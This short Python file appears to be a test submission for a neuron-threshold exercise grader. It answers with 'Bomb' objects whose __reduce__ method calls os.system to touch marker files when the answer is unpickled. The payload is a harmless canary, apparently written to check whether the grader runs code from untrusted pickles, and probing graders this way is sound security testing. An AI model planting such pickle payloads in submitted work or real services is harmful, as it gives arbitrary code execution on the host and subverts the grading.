"""Answers with an object whose __reduce__ runs a command in the process that unpickles it."""

# %% lif_threshold_solution
import os


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {KNOWN['course']}/{KNOWN['mark']}-pickle /tmp/{KNOWN['mark']}-pickle",)


I_min = Bomb()
currents = rates = [Bomb()]
